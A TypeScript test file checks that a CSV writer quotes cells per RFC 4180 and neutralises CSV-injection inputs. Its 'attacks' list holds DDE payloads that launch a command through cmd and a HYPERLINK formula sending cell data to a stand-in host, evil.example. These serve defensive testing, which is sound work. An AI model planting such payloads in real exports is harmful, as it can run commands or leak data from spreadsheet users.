import { expect, test } from 'vitest';
import { csvLine } from '#domain/text/plain.ts';

test('cells are parted by commas, records by CRLF, and a number is left as it is', () => {
  expect(csvLine(['a', 1, null, 2.5, ''])).toBe('a,1,,2.5,\r\n');
  expect(csvLine([-5])).toBe('-5\r\n');
});

test.each([
  ['a,b', '"a,b"'],
  ['say "yes"', '"say ""yes"""'],
  ['two\nlines', '"two\nlines"'],
  ['two\r\nlines', '"two\r\nlines"'],
  ['plain', 'plain'],
  ['हिन्दी 😀', 'हिन्दी 😀'],
])('%j is quoted where RFC 4180 says so', (cell, written) => {
  expect(csvLine([cell])).toBe(`${written}\r\n`);
});

/** Of OWASP's page on CSV injection, and of lists that go round. */
const attacks = [
  ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  ...['+919876543210', '+91 98765=1+1', '\t=1+1', '\r=1+1', '\u0000=1+1', '\n=1+1', ' =1+1'],
  ...['a,=1+1', 'a;=1+1', 'a|=1+1', 'a\t=1+1', 'a\n=1+1', 'a\r\n=1+1', 'a","=1+1', '"=1+1'],
  ...['＝1+1', '＋1', '－1', '＠SUM(1)', "%0A-3+3+cmd|' /C calc'!D2\n-1", ';=cmd'],
];

/** However a spreadsheet takes it apart: by commas, semicolons, tabs, bars or lines, with quotes or without. */
function cellsAnyhow(line: string): string[] {
  return line.split(/[,;|\t\r\n"]/).map((cell) => cell.trim());
}

test.each(attacks)('1.2.10 no spreadsheet takes %j for a formula', (attack) => {
  const line = csvLine(['before', attack, 'after']);

  for (const cell of cellsAnyhow(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
  expect(line).not.toMatch(/,"?\p{Cc}/u);
});
